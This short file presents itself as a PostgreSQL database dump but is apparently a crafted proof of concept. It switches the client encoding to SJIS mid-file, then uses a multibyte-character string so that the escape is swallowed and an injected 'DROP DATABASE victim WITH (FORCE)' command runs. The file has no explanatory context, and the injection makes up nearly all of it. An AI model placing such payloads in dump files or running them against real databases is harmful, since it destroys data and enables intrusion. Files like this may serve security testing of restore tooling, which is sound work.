--
-- PostgreSQL database dump
--

SET client_encoding = 'UTF8';
CREATE TABLE public.t (a text);
SELECT set_config('client_encoding', 'SJIS', false);
SELECT E'ƒ\'; DROP DATABASE victim WITH (FORCE); --';

--
-- PostgreSQL database dump complete
--
